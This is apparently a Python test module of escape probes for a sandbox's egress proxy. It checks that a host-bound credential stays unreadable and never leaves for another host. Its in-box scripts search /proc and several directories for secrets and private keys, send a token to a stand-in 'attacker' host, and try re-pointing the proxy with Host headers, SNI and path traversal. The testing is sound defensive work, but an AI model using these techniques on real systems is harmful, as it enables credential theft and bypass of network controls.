"""Credential attacks (issue 23): take the value a policy binds to one host out of the
box, or get the proxy to send it anywhere else.

Each probe stands up two HTTPS servers of its own on the proxies' egress bridge (the
proxy image's python3, with a CA made at its start): `bound`, known as the credential's
host and as a host with rules only, and `elsewhere`, known as an allowed host with no
credential (tunnelled) and as one more the attacker might want. The box's policy is the
lab's, switched to `network: allowlist` with those four names and one credential, whose
value ("wlsecret" and 32 random hex digits) lives only in this process's environment for
the probe's length: the proxy gets it from there, as it would from the broker's. Both
servers print every request they get; the value found anywhere it was not meant to be
(in the box, in `elsewhere`'s log, in a request to `bound` for another name) is an escape.

The two private-address and CA settings the servers need are the operator's
(egress_plan.plan_for), set for the probe's length only. Nothing leaves this machine.

Not here: the proxy (sandbox/egress/network.py, proxy-image/), the allowlist probes that need
no credential (allowlist.py).
"""

from __future__ import annotations

import json
import os
import secrets
import time
from contextlib import contextmanager
from dataclasses import replace
from urllib.parse import unquote

from orchestrator.escapes.lab import Probe, Trial, escaped, held, python_command
from orchestrator.policy.schema import Credential, HttpRule
from orchestrator.sandbox.egress import egress_plan, network

CATEGORY = "allowlist"
LABEL = "wakeloop.escapes.credentials"  # on the probes' servers
# The servers' names carry this process's mark: two test sessions on one engine share the egress
# bridge, and a name that both served would reach either one's server.
MARK = secrets.token_hex(3)
BOUND, RULED = f"bound-{MARK}.wakeloop-probe.test", f"ruled-{MARK}.wakeloop-probe.test"  # one server
PLAIN, ATTACKER = f"plain-{MARK}.wakeloop-probe.test", f"attacker-{MARK}.wakeloop-probe.test"  # the other
VAR = "ESCAPE_PROBE_TOKEN"  # the credential's variable, in this process only while a probe runs
PREFIX = "wlsecret"  # every value starts so: the box may search for it without knowing it
READY_S = 30

# An HTTPS server (python3 and cryptography of the proxy image): a CA and a certificate for
# the names in argv[1], made at its start; prints "CA <pem with | for newlines>", "READY", and
# "SEEN <json>" for every request (its line, headers and body), and answers 200 with a summary.
ECHO_SERVER = r"""
import datetime, hashlib, http.server, json, socket, ssl, sys
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

names = sys.argv[1].split(",")
now = datetime.datetime.utcnow()
def cert(subject, issuer, key, sign_key, ca, sans=()):
    b = (x509.CertificateBuilder().subject_name(subject).issuer_name(issuer).public_key(key.public_key())
         .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
         .not_valid_after(now + datetime.timedelta(days=1))
         .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
    if sans:
        b = b.add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in sans]), critical=False)
    return b.sign(sign_key, hashes.SHA256())
ca_key, key = ec.generate_private_key(ec.SECP256R1()), ec.generate_private_key(ec.SECP256R1())
ca_name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "wakeloop test CA")])
ca = cert(ca_name, ca_name, ca_key, ca_key, True)
leaf = cert(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])]), ca_name, key, ca_key, False, names)
with open("/tmp/leaf.pem", "wb") as f:
    f.write(leaf.public_bytes(serialization.Encoding.PEM))
    f.write(key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
                              serialization.NoEncryption()))
print("CA " + ca.public_bytes(serialization.Encoding.PEM).decode().replace("\n", "|"), flush=True)

class Echo(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def answer(self):
        # The body read in 64 KiB pieces, its first 4 KiB kept (one log line stays short); SEEN is
        # printed however the read ends (a proxy may cut an upload), with the count of bytes that arrived.
        want, body, got = int(self.headers.get("Content-Length") or 0), b"", 0
        auth = self.headers.get("Authorization", "")
        tls = isinstance(self.connection, ssl.SSLSocket)
        try:
            while got < want and (piece := self.rfile.read(min(65536, want - got))):
                got += len(piece)
                body += piece[: max(0, 4096 - len(body))]
        finally:
            print("SEEN " + json.dumps({"line": self.requestline, "host": self.headers.get("Host", ""),
                                        "headers": str(self.headers), "body": body.decode(errors="replace"),
                                        "body_bytes": got, "tls": tls,
                                        "sni": getattr(self.connection, "wakeloop_sni", "") if tls else ""}),
                  flush=True)
        if "/bytes/" in self.path:  # a download of that many bytes, sent in 64 KiB writes
            size = int(self.path.rsplit("/", 1)[1])
            self.send_response(200)
            self.send_header("Content-Length", str(size))
            self.end_headers()
            sent = 0
            try:
                for start in range(0, size, 65536):
                    self.wfile.write(b"x" * min(65536, size - start))
                    sent += min(65536, size - start)
            finally:
                print(f"SENT {sent} {self.path}", flush=True)  # a cut answer: how far the server got
            return
        out = {"method": self.command, "path": self.path, "host": self.headers.get("Host"),
               "auth_sha256": hashlib.sha256(auth.encode()).hexdigest() if auth else ""}
        if self.path.endswith("/echo"):
            out["auth"] = auth
        if self.path.endswith("/big"):
            out["pad"] = "x" * 6000
        data = json.dumps(out).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)
    do_GET = do_POST = do_PUT = do_DELETE = answer
    def log_message(self, *args):
        pass

def note_sni(sock, name, _context):
    sock.wakeloop_sni = name or ""

class Server(http.server.ThreadingHTTPServer):
    # TLS or not, told by the first byte (a handshake record is 0x16): clear text sent to 443 is seen too.
    def finish_request(self, request, client_address):
        if request.recv(1, socket.MSG_PEEK) == b"\x16":
            try:
                request = context.wrap_socket(request, server_side=True)
            except (OSError, ssl.SSLError):
                return
        try:
            super().finish_request(request, client_address)
        finally:
            request.close()

context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain("/tmp/leaf.pem")
context.sni_callback = note_sni
server = Server(("0.0.0.0", 443), Echo)
print("READY", flush=True)
server.serve_forever()
"""


def _line(container, prefix: str) -> str:
    deadline = time.monotonic() + READY_S
    while time.monotonic() < deadline:
        for line in container.logs().decode(errors="replace").splitlines():
            if line.startswith(prefix):
                return line
        container.reload()
        if container.status in ("exited", "dead"):
            break
        time.sleep(0.1)
    raise RuntimeError(f"the echo server did not start: {container.logs()[-300:]!r}")


@contextmanager
def echo_server(client, names: tuple[str, ...], label: str = LABEL):
    """ECHO_SERVER on the egress bridge, known there by `names`; yields (container, its CA's PEM)."""
    network.ensure_image(client)
    bridge = network.ensure_network(client, network.EGRESS_NETWORK, internal=False, key="shared")
    container = client.containers.create(
        network.PROXY_IMAGE,
        ["python3", "-c", ECHO_SERVER, ",".join(names)],
        user="0:0",  # port 443
        network=bridge.name,
        labels={label: "1"},
        mem_limit=128 * 2**20,
        pids_limit=64,
        detach=True,
    )
    try:
        bridge.disconnect(container)
        bridge.connect(container, aliases=list(names))
        container.start()
        ca = _line(container, "CA ")[3:].replace("|", "\n")
        _line(container, "READY")
        yield container, ca
    finally:
        container.remove(force=True)


def seen(container) -> list[dict]:
    """The requests a server printed."""
    lines = container.logs().decode(errors="replace").splitlines()
    return [json.loads(line[5:]) for line in lines if line.startswith("SEEN ")]


@contextmanager
def credential_box(t: Trial, bound_rules: tuple[str, ...] = (), budget: int | None = None):
    """Both servers, the operator's settings and the value in this process's environment,
    and a box whose policy binds the value to BOUND (its requests ruled by `bound_rules`,
    if any; its wake's egress capped at `budget` bytes, if given); yields (box, value, bound,
    elsewhere)."""
    value = PREFIX + secrets.token_hex(16)
    with (
        echo_server(t.lab.client, (BOUND, RULED)) as (bound, ca_1),
        echo_server(t.lab.client, (PLAIN, ATTACKER)) as (
            elsewhere,
            ca_2,
        ),
    ):
        ca_file = t.dir / "upstream-ca.pem"
        ca_file.write_text(ca_1 + ca_2)
        saved = {k: os.environ.get(k) for k in (VAR, egress_plan.PRIVATE_OK_ENV, egress_plan.UPSTREAM_CA_ENV)}
        os.environ.update(
            {
                VAR: value,
                egress_plan.PRIVATE_OK_ENV: ",".join((BOUND, RULED, PLAIN, ATTACKER)),
                egress_plan.UPSTREAM_CA_ENV: str(ca_file),
            }
        )
        policy = replace(
            t.lab.policy,
            network="allowlist",
            allow_hosts=(BOUND, RULED, PLAIN, ATTACKER),
            credentials=(Credential(host=BOUND, value=f"Bearer ${{{VAR}}}", placeholder_env="PROBE_TOKEN"),),
            http=(HttpRule(host=RULED, allow=("GET /**",)),)
            + ((HttpRule(host=BOUND, allow=bound_rules),) if bound_rules else ()),
        )
        if budget is not None:
            policy = replace(policy, max_egress_bytes_per_wake=budget)
        box = None
        try:
            box = t.new_box(policy=policy, warm=0)
            yield box, value, bound, elsewhere
        finally:
            if box is not None:
                egress = box._egress()
                assert egress is not None  # the probe's policy is an allowlist
                network.shutdown(t.lab.client, {egress.key}, shared=False)
            for k, v in saved.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v


# -- the value and the CA's key, from inside the box -------------------------------------

SEARCH = r"""
import glob, socket, urllib.request
found = []
def look(where, data):
    for mark in (b"PRIVATE" + b" KEY", bytes.fromhex("PREFIX")):  # not in this program's own text
        if mark in data:
            found.append(f"{mark.decode()} in {where}")
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        look(path, open(path, "rb").read())
    except OSError:
        pass
look("os.environ", repr(dict(os.environ)).encode())
for top in ("/tmp", "/workspace", "/etc", "/home", "/run", "/var/tmp", "/dev/shm"):
    for root, dirs, files in os.walk(top):
        for f in files:
            try:
                look(os.path.join(root, f), open(os.path.join(root, f), "rb").read(1 << 20))
            except OSError:
                pass
procs = [open(p, "rb").read().replace(b"\0", b" ")[:60] for p in glob.glob("/proc/[0-9]*/cmdline")]
theirs = [p for p in procs if b"mitm" in p]
if theirs:
    found.append(f"the proxy's processes are in the box's view: {theirs}")
# The proxy asked for itself, as an origin server and as a proxy target, and for its files.
for url in ("http://wakeloop-proxy:3128/", "http://wakeloop-proxy:3128/tmp/mitm/mitmproxy-ca.pem"):
    try:
        s = socket.create_connection(("wakeloop-proxy", 3128), timeout=10)
        s.sendall(f"GET {url} HTTP/1.1\r\nHost: wakeloop-proxy\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := s.recv(65536):
            data += chunk
        look(f"the proxy's answer to {url}", data)
    except OSError as e:
        pass
for port in (8080, 8081, 22, 9090):
    try:
        socket.create_connection(("wakeloop-proxy", port), timeout=3).close()
        found.append(f"the proxy listens on {port}")
    except OSError:
        pass
if not os.environ.get("HTTPS_PROXY"):
    print("no proxy configured: not an allowlist box")
elif found:
    escaped("; ".join(found))
else:
    held("neither the CA's key nor the credential's value in the box's environment, processes or files, "
         "nor in the proxy's answers; none of the proxy's processes in view, no other port of it open")
""".replace("PREFIX", PREFIX.encode().hex())


def _out_of_the_box(t: Trial) -> str:
    with credential_box(t) as (box, value, _bound, _elsewhere):
        result = box.run(python_command(SEARCH), timeout_s=120, max_output_chars=20_000)
        text = result.output + f"\n[host: exit {result.exit_code}]"
        if value in text:
            return escaped(f"the box printed the value itself: {text[-300:]!r}")
        return text


# -- the value to anywhere but its host ---------------------------------------------------

ATTEMPTS = (
    r"""
import json, os, subprocess
P = os.environ.get("PROBE_TOKEN", "")
def curl(*args):
    r = subprocess.run(["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code} %{http_connect}", "--max-time", "15",
                        *args], capture_output=True, text=True)
    return (r.stdout + " " + r.stderr.strip()[:120]).strip()
B, R, PL, A = "BOUND", "RULED", "PLAIN", "ATTACKER"
out = {
    # the placeholder in a header to another intercepted host: refused as misdirected
    "misdirected header": curl("-H", f"Authorization: Bearer {P}", f"https://{R}/misdirected"),
    # in a query to it
    "misdirected query": curl(f"https://{R}/misdirected?t={P}"),
    # replayed over plain HTTP to its own host: credentials go over https only
    "plain http replay": curl("-H", f"Authorization: Bearer {P}", f"http://{B}/replay"),
    # smuggled in a body and a query to an allowed host with no credential (tunnelled)
    "smuggled body": curl("-k", "-X", "POST", "-d", f"token={P}", f"https://{PL}/smuggle"),
    "smuggled query": curl("-k", f"https://{PL}/smuggle?token={P}"),
    # DNS and naming tricks: the intercepted name, pointed at another address
    "resolve to elsewhere": curl("-k", "--connect-to", f"{B}:443:{A}:443", f"https://{B}/connect-to"),
    "host header elsewhere": curl("-k", "-H", f"Host: {A}", f"https://{B}/host-header"),
    "sni of the bound name through a tunnel": curl("-k", "--connect-to", f"{B}:443:{PL}:443", f"https://{B}/sni"),
    "trailing dot": curl(f"https://{B}./repos/dot"),
    "ip literal": curl("-k", "--resolve", f"{B}:443:203.0.113.9", f"https://{B}/ip"),
}
print("RESULT " + json.dumps(out))
""".replace("BOUND", BOUND)
    .replace("RULED", RULED)
    .replace("PLAIN", PLAIN)
    .replace("ATTACKER", ATTACKER)
)


def _only_to_its_host(t: Trial) -> str:
    with credential_box(t) as (box, value, bound, elsewhere):
        if not routes(box):  # gVisor run with --network=none ignores the holder's netns
            return held("the box has no route at all on this runtime: no request reaches the proxy")
        result = box.run(python_command(ATTEMPTS), timeout_s=180, max_output_chars=20_000)
        answers = next((line[7:] for line in result.output.splitlines() if line.startswith("RESULT ")), None)
        if answers is None:
            return f"the attempts said: {result.output[-300:]!r} (exit {result.exit_code})"
        leaks = [
            f"{where} got it in {r['line']!r} (Host {r['host']})"
            for where, server in (("bound", bound), ("elsewhere", elsewhere))
            for r in seen(server)
            if value in json.dumps(r) and (where == "elsewhere" or r["host"].split(":")[0].rstrip(".") != BOUND)
        ]
        if leaks:
            return escaped("the credential's value left for another host: " + "; ".join(leaks))
        passed = {
            k: v for k, v in json.loads(answers).items() if k.startswith(("misdirected", "plain")) and v[:1] == "2"
        }
        if passed:
            return escaped(f"the proxy passed requests it should refuse: {passed}")
        return held(
            "the value reached only its own host (https, its own name): misdirected, replayed, smuggled and "
            f"re-pointed attempts got {answers}"
        )


def routes(box) -> bool:
    out = box.run("cat /proc/net/route", timeout_s=30, max_output_chars=4000).output
    return len([line for line in out.splitlines()[1:] if line.strip()]) > 0


# -- every name for the destination, one host: raw requests through a tunnel -----------

RULES = ("GET /repos/**", "POST /repos/*/pulls")  # the bound host's rules in these probes

# In the box: each try is a CONNECT to the proxy, then TLS with the try's SNI (or none: clear
# text), then the try's request as written. Prints RESULT {name: the answer's first line | its body}.
RAW = r"""
import json, socket, ssl
proxy_host, proxy_port = os.environ["HTTPS_PROXY"].split("//")[-1].rstrip("/").rsplit(":", 1)
def head(s):
    data = b""
    while b"\r\n\r\n" not in data and (chunk := s.recv(1)):
        data += chunk
    return data.decode(errors="replace")
def one(t):
    s = socket.create_connection((proxy_host, int(proxy_port)), timeout=20)
    try:
        s.sendall(f"CONNECT {t['connect']} HTTP/1.1\r\nHost: {t['connect']}\r\n\r\n".encode())
        answer = head(s)
        if " 200" not in answer.split("\r\n")[0]:
            return "CONNECT " + answer.split("\r\n")[0]
        if t["sni"] is not None:
            c = ssl.create_default_context()
            c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
            s = c.wrap_socket(s, server_hostname=t["sni"] or None)
        s.sendall(t["request"].encode())
        data = b""
        while len(data) < 8000 and (chunk := s.recv(8000)):
            data += chunk
        text = data.decode(errors="replace")
        return text.split("\r\n")[0] + " | " + text.split("\r\n\r\n", 1)[-1][:240]
    except (OSError, ssl.SSLError) as e:
        return f"error: {e}"
    finally:
        s.close()
print("RESULT " + json.dumps({t["name"]: one(t) for t in TRIES}))
"""


def _try(name: str, target: str, sni: str | None = BOUND, host: str = BOUND, connect: str = BOUND) -> dict:
    """One raw request: CONNECT `connect`:443, TLS named `sni` ("" none, None clear text), `GET target`."""
    request = f"GET {target} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
    return {"name": name, "connect": f"{connect}:443", "sni": sni, "request": request}


BASELINE = _try("as bound", "/repos/o/r")  # every probe's first try: the credential must reach its host


def _proper(request: dict) -> bool:
    """Whether the bound server got `request` as the binding means it: over TLS named BOUND,
    Host BOUND, an origin-form target already in normal form, inside the rules."""
    parts = request["line"].split(" ")
    target = parts[1] if len(parts) == 3 else ""
    segments = unquote(target.split("?", 1)[0]).split("/")
    normal = target.startswith("/repos/") and "%2f" not in target.lower() and not {".", ".."} & set(segments)
    return request["tls"] and request["sni"] == BOUND and request["host"].split(":")[0] == BOUND and normal


def _raw_tries(t: Trial, tries: list[dict], what: str) -> str:
    """Run BASELINE and `tries` in a box bound by RULES; ESCAPED if the value reached a server in
    any request but a proper one, or a try was answered 2xx; HELD if the baseline reached its
    host and every try was refused with the proxy's reason."""
    with credential_box(t, bound_rules=RULES) as (box, value, bound, elsewhere):
        if not routes(box):
            return held("the box has no route at all on this runtime: no request reaches the proxy")
        program = f"TRIES = {[BASELINE, *tries]!r}\n" + RAW
        result = box.run(python_command(program), timeout_s=180, max_output_chars=20_000)
        line = next((x[7:] for x in result.output.splitlines() if x.startswith("RESULT ")), None)
        if line is None:
            return f"the tries said: {result.output[-300:]!r} (exit {result.exit_code})"
        answers = json.loads(line)
        leaks = [
            f"{where} got it in {r['line']!r} (Host {r['host']}, TLS {r['tls']}, SNI {r['sni']!r})"
            for where, server in (("bound", bound), ("elsewhere", elsewhere))
            for r in seen(server)
            if value in json.dumps(r) and (where == "elsewhere" or not _proper(r))
        ]
        if leaks:
            return escaped(f"{what}: the credential's value went where it is not bound: " + "; ".join(leaks))
        base = answers.pop(BASELINE["name"])
        passed = {k: v for k, v in answers.items() if v.startswith("HTTP/1.1 2")}
        if passed:
            return escaped(f"{what}: the proxy passed requests it should refuse: {passed}")
        if not base.startswith("HTTP/1.1 200") or not any(value in json.dumps(r) for r in seen(bound)):
            return f"the credential did not reach its own host as bound ({base!r}): cannot judge"
        unexplained = {k: v for k, v in answers.items() if "wakeloop egress: refused" not in v}
        if unexplained:
            return f"{what}: refused without the proxy's reason: {unexplained}"
        return held(f"{what}: each refused with a reason, the value reached only its host as bound: {answers}")


def _sni_elsewhere(t: Trial) -> str:
    tries = [
        _try("sni of another intercepted host", "/repos/o/r", sni=RULED),
        _try("sni of a tunnelled host", "/repos/o/r", sni=PLAIN),
        _try("no sni", "/repos/o/r", sni=""),
    ]
    return _raw_tries(t, tries, f"CONNECT {BOUND}:443, then TLS named otherwise")


def _absolute_form(t: Trial) -> str:
    tries = [
        _try("absolute https to another intercepted host", f"https://{RULED}/repos/o/r"),
        _try("absolute https to a tunnelled host", f"https://{PLAIN}/repos/o/r"),
        _try("absolute http to a tunnelled host", f"http://{ATTACKER}/repos/o/r"),
        _try("absolute, another port", f"https://{BOUND}:8443/repos/o/r"),
    ]
    return _raw_tries(t, tries, f"an absolute-form target in a tunnel to {BOUND}")


def _clear_text(t: Trial) -> str:
    tries = [
        _try("clear text in a CONNECT to 443", "/repos/o/r", sni=None),
        _try("clear text, absolute form", f"http://{BOUND}/repos/o/r", sni=None),
    ]
    return _raw_tries(t, tries, f"plain HTTP inside a CONNECT to {BOUND}:443")


def _dot_segments(t: Trial) -> str:
    tries = [
        _try("outside the rules", "/admin"),
        _try("dot segments", "/repos/../admin"),
        _try("encoded dots", "/repos/%2e%2e/admin"),
        _try("encoded dots, upper case", "/repos/%2E%2E/admin"),
        _try("a single dot", "/repos/./o/r"),
        _try("encoded slash", "/repos/o%2f..%2f..%2fadmin"),
        _try("encoded unreserved", "/repos/%6f/r"),
    ]
    return _raw_tries(t, tries, f"paths walking out of {BOUND}'s rules {list(RULES)}")


credentials_follow_the_tunnel_name = Probe(
    "credentials_follow_the_tunnel_name",
    CATEGORY,
    "a TLS name (SNI) other than the CONNECT's host, or none, is refused with a reason; the credential "
    "goes upstream only named and verified as its host",
    _sni_elsewhere,
)

credentials_refuse_absolute_form_elsewhere = Probe(
    "credentials_refuse_absolute_form_elsewhere",
    CATEGORY,
    "a request whose absolute-form target names another host or port than the tunnel's is refused with a "
    "reason; no credential goes with it",
    _absolute_form,
)

credentials_never_in_clear = Probe(
    "credentials_never_in_clear",
    CATEGORY,
    "a CONNECT to port 443 carrying anything but TLS is refused with a reason; the credential never travels in clear",
    _clear_text,
)

credentials_rules_see_the_normal_path = Probe(
    "credentials_rules_see_the_normal_path",
    CATEGORY,
    "dot segments, encoded dots and encoded slashes never walk a request out of its host's path rules: "
    "a path that normalising would change is refused with a reason",
    _dot_segments,
)


# -- one request, one line -----------------------------------------------------------

# In the box: requests through the proxy, each refused at a different step but one (curl, the
# box's CA). Prints RESULT {what: status}.
REQUESTS = r"""
import json, os, subprocess
P = os.environ.get("PROBE_TOKEN", "")
def curl(*args):
    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "15", *args],
                       capture_output=True, text=True)
    return r.stdout
B, R = "BOUND", "RULED"
print("RESULT " + json.dumps({
    "allowed": curl(f"https://{B}/repos/o/r"),
    "no rule for its path": curl(f"https://{B}/admin"),
    "no rule for its method": curl("-X", "DELETE", f"https://{B}/repos/o/r"),
    "a path not in normal form": curl("--path-as-is", f"https://{B}/repos/../admin"),
    "a misdirected placeholder": curl(f"https://{R}/x?t={P}"),
}))
""".replace("BOUND", BOUND).replace("RULED", RULED)


def _one_line_each(t: Trial) -> str:
    with credential_box(t, bound_rules=RULES) as (box, _value, _bound, _elsewhere):
        if not routes(box):
            return held("the box has no route at all on this runtime: no request reaches the proxy")
        since = time.time()
        result = box.run(python_command(REQUESTS), timeout_s=120, max_output_chars=20_000)
        line = next((x[7:] for x in result.output.splitlines() if x.startswith("RESULT ")), None)
        if line is None:
            return f"the requests said: {result.output[-300:]!r} (exit {result.exit_code})"
        answers = json.loads(line)
        if answers.pop("allowed") != "200" or set(answers.values()) != {"403"}:
            return f"the requests were not answered as planned: {line}: cannot judge"
        lines = [
            d
            for d in network.settled_decisions(t.lab.client, box._egress(), since - 1, "probe")
            if d["method"] != "CONNECT"
        ]
        denied = [d for d in lines if d["decision"] == "deny" and d["rule"]]
        if len(lines) != 1 + len(answers) or len(denied) != len(answers):
            shown = [(d["method"], d["path"], d["decision"], d["rule"], d["bytes_down"]) for d in lines]
            return escaped(
                f"{1 + len(answers)} requests ({len(answers)} refused) made {len(lines)} record lines, "
                f"{len(denied)} of them refusals: {shown}"
            )
        return held(f"{len(lines)} requests, {len(lines)} record lines, each refusal one deny line with its rule")


egress_records_each_request_once = Probe(
    "egress_records_each_request_once",
    CATEGORY,
    "each request through the proxy is one line of the egress record, with its final decision, rule and "
    "bytes: a refusal is not counted again as allowed",
    _one_line_each,
)


credentials_out_of_the_box = Probe(
    "credentials_out_of_the_box",
    CATEGORY,
    "neither a credential's value nor the proxy's CA key is anywhere the box can read; the proxy's memory "
    "and files are in another container",
    _out_of_the_box,
)

credentials_only_to_their_host = Probe(
    "credentials_only_to_their_host",
    CATEGORY,
    "a placeholder misdirected, replayed over http, smuggled in a body or query, or its host re-pointed "
    "(connect-to, Host header, SNI, IP literal) never sends the value anywhere but its host",
    _only_to_its_host,
)

PROBES = [
    credentials_out_of_the_box,
    credentials_only_to_their_host,
    credentials_follow_the_tunnel_name,
    credentials_refuse_absolute_form_elsewhere,
    credentials_never_in_clear,
    credentials_rules_see_the_normal_path,
    egress_records_each_request_once,
]
